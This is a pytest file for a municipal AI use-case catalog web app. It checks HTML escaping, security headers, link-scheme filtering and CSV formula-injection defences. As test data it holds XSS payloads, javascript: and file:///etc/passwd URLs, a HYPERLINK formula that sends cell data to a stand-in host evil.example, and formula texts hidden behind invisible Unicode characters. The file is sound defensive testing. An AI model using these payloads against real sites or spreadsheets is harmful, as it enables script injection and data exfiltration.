"""Hostile record content is shown as text, never run; every response forbids inline script.

Falun's use case has HTML and script in its title, summary, description, technique,
link title and URL, and tag (validation accepts ``<script>`` as text; it refuses
non-http(s) links, which the catalog checks again before writing an ``href``).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from samverka.errors import ConfigError
from samverka.store.store import Store
from samverka.v1 import records_pb2 as R
from samverka_hub.config import WebSection
from samverka_hub.folder import init_hub
from samverka_hub.web.app import CSP, create_app
from samverka_hub.web.catalog import Catalog
from samverka_hub.web.export import cell
from samverka_hub.web.present import safe_href
from webkit import FALUN, HOSTILE_SUMMARY, HOSTILE_TITLE, Federation, enroll, use_case

HOSTILE_PAGES = [
    f"/post/{FALUN}/uc-hostile",
    "/sok?q=chattbot",
    "/sok",
    f"/kommun/{FALUN}",
    "/",
    "/sok?technique=<i>chatt</i>",
]


def test_hostile_markup_is_escaped_on_every_page(client: TestClient) -> None:
    for url in HOSTILE_PAGES:
        html = client.get(url).text
        assert "Chattbot" in html, url
        # The catalog's own pages carry no script at all, so any <script is injected.
        assert "<script" not in html.lower(), url
        for raw in ("<img src=x", "<svg onload", "<b>fet</b>", "<i>chatt</i>", "</p><script"):
            assert raw not in html, (url, raw)
    page = client.get(f"/post/{FALUN}/uc-hostile").text
    assert "&lt;script&gt;alert(&#34;xss&#34;)&lt;/script&gt; Chattbot" in page
    assert "&lt;b&gt;fet&lt;/b&gt;" in page
    assert "<title>&lt;script&gt;" in page


def test_no_href_other_than_http_https_or_the_catalogs_own(client: TestClient) -> None:
    for url in HOSTILE_PAGES:
        html = client.get(url).text
        for href in re.findall(r'href="([^"]*)"', html):
            assert href.startswith(("/", "#", "http://", "https://")), (url, href)
            assert "<" not in href and '"' not in href


def test_safe_href_refuses_every_other_scheme() -> None:
    for bad in (
        "javascript:alert(1)",
        " JavaScript:alert(1)",
        "java\tscript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox",
        "//evil.example/x",
        "/relative",
        "https://",
        "file:///etc/passwd",
    ):
        assert safe_href(bad) is None, bad
    assert safe_href("https://www.leksand.se/a?b=1") == "https://www.leksand.se/a?b=1"


def test_every_response_carries_the_security_headers(client: TestClient) -> None:
    for url in [
        "/",
        "/sok?q=ai",
        f"/post/{FALUN}/uc-hostile",
        "/finns-inte",
        "/sok?area=okand",
        "/api/records",
        "/api/records/9999/x",
        "/api/records.csv",
        "/static/style.css",
        "/api/openapi.json",
    ]:
        response = client.get(url)
        headers = response.headers
        assert headers["content-security-policy"] == CSP, url
        assert headers["x-content-type-options"] == "nosniff", url
        assert headers["x-frame-options"] == "DENY", url
        assert headers["referrer-policy"] == "same-origin", url
    assert "script-src 'self'" in CSP and "'unsafe-inline'" not in CSP
    assert "frame-ancestors 'none'" in CSP


def test_the_catalog_is_read_only(client: TestClient) -> None:
    for method in ("post", "put", "delete", "patch"):
        response = client.request(method.upper(), "/api/records")
        assert response.status_code == 405, method
    assert client.post("/sok").status_code == 405


def test_api_returns_hostile_text_as_data(client: TestClient) -> None:
    record = client.get(f"/api/records/{FALUN}/uc-hostile").json()
    assert record["summary"]["title"] == HOSTILE_TITLE
    assert record["record"]["use_case"]["summary"] == HOSTILE_SUMMARY
    response = client.get(f"/api/records/{FALUN}/uc-hostile")
    assert response.headers["content-type"] == "application/json"


def test_a_failing_database_is_a_503_page_with_the_headers(tmp_path: Path) -> None:
    """The store's file disappears under the catalog: a clear 503, never a traceback."""
    store = Store.open(f"sqlite:///{tmp_path / 'gone.db'}")
    catalog = Catalog(store, lambda: None)
    client = TestClient(create_app(catalog), raise_server_exceptions=False)
    assert client.get("/sok").status_code == 200
    store.close()
    with store.engine.begin() as conn:
        conn.exec_driver_sql("DROP TABLE records_fts")
        conn.exec_driver_sql("DROP TABLE records")
    for url, kind in (("/sok", "text/html"), ("/api/records", "application/json")):
        response = client.get(url)
        assert response.status_code == 503, url
        assert response.headers["retry-after"] == "30"
        assert response.headers["content-type"].startswith(kind), url
        assert response.headers["content-security-policy"] == CSP, url
        assert "Traceback" not in response.text


#: Texts a spreadsheet could run as formulas (issue 16: all but the first two were left
#: unprefixed): the operator after whitespace, NBSP, a zero-width space, a bidi mark, a
#: BOM, a soft hyphen, a combining mark, a tab, CR or LF, or as a fullwidth, small or
#: superscript form. Validation lets each through in a summary, the single-line ones in
#: a title too (it refuses bidi overrides, checked on cell() alone below).
FORMULA_TEXTS = [
    '=HYPERLINK("http://evil.example/?"&A1;"klicka")',
    "@SUM(A1:A9)",
    " =1+1 efter ett mellanslag",
    "\u00a0=1+1 efter NBSP",
    "\u200b=1+1 efter ett nollbrett mellanslag",
    "\u200e+46 efter en riktningsmarkering",
    "\u180e=1+1 efter en mongolisk vokalavskiljare",
    "\u0301=1+1 efter ett kombinerande tecken",
    "\ufeff-2 efter en BOM",
    "\u00ad@SUM(A1) efter ett mjukt bindestreck",
    "\u3000=1+1 efter ett ideografiskt mellanslag",
    "\u3164=1+1 efter en hangul-utfyllnad",
    "\t=1+1 efter en tabb",
    "\r=1+1 efter CR",
    "\n=1+1 efter LF",
    "\u2028=1+1 efter en radavgränsare",
    "＝1+1 helbredd",
    "＋46 helbredd",
    "－2 helbredd",
    "＠SUM(A1) helbredd",
    "\ufe66 1+1 litet likhetstecken",
    "\u207c1+1 upphöjt likhetstecken",
]
HARMLESS_TITLES = [
    "Äldreomsorg = bra",
    "Chatt - för alla",
    " Bygglov med AI",
    "E-tjänst @ kommunen",
]


@pytest.fixture(scope="module")
def formula_client(tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
    """A hub of its own where Falun has published a use case under each title above."""
    folder = tmp_path_factory.mktemp("formulas")
    hub = init_hub(folder / "hub")
    federation = Federation(hub)
    member = federation.members[FALUN] = enroll(hub, FALUN, folder)
    for i, text in enumerate(FORMULA_TEXTS + HARMLESS_TITLES):
        member.publisher.publish(
            use_case(
                f"uc-formel-{i}",
                title=f"Formel {i}" if text[0] in "\t\r\n\u2028" else text,
                summary=text,
                service_area=R.SERVICE_AREA_FINANCE,
                status=R.USE_CASE_STATUS_IDEA,
            )
        )
    federation.push(member)
    try:
        yield TestClient(create_app(Catalog(hub.store, hub.council.current_directory)))
    finally:
        member.store.close()
        hub.close()


def export_rows(client: TestClient, **headers: str) -> list[list[str]]:
    response = client.get("/api/records.csv", params={"kommun": FALUN}, headers=headers)
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def test_csv_formulas_behind_invisible_or_fullwidth_characters_are_neutralized(
    formula_client: TestClient,
) -> None:
    rows = export_rows(formula_client)[1:]
    by_text = {r[2].removeprefix("'"): r for r in rows}
    assert sorted(by_text) == sorted(FORMULA_TEXTS + HARMLESS_TITLES)
    unprefixed = [t for t in FORMULA_TEXTS if not by_text[t][2].startswith("'")]
    assert unprefixed == [], unprefixed
    titled = [t for t in FORMULA_TEXTS if by_text[t][1].removeprefix("'") == t]
    assert len(titled) == len(FORMULA_TEXTS) - 4 and all(
        by_text[t][1].startswith("'") for t in titled
    ), titled
    for text in HARMLESS_TITLES:
        assert by_text[text][1] == by_text[text][2] == text, text  # text is left as it is
    for text in ("\u202e=1+1", "\u2066@A1", "\x85=1", "\u2800=1", "\ufe62 46"):
        assert cell(text) == "'" + text, repr(text)  # refused by validation; cell() anyway


def test_csv_links_never_follow_the_host_header(formula_client: TestClient, tmp_path: Path) -> None:
    rows = export_rows(formula_client, host="evil.example")[1:]
    links = [r[-1] for r in rows]
    assert links and all(link.startswith(f"/post/{FALUN}/uc-formel-") for link in links), links
    # With [web] public_url the links are absolute, on that address whatever the Host says.
    app = formula_client.app
    settings = WebSection(public_url="https://katalog.example.se/samverka/")
    configured = TestClient(create_app(app.state.web.catalog, settings))  # type: ignore[attr-defined]
    links = [r[-1] for r in export_rows(configured, host="evil.example")[1:]]
    assert all(link.startswith(f"https://katalog.example.se/samverka/post/{FALUN}/")
               for link in links), links  # fmt: skip
    for bad in (
        "javascript:alert(1)",
        "//evil.example",
        "https://",
        "https://a.se/?x=1",
        "https://u:p@a.se",
        "https://a.se:99999",
        "ftp://a.se",
        "https://a.se/ x",
    ):
        with pytest.raises(ConfigError, match="public_url"):
            WebSection(public_url=bad)
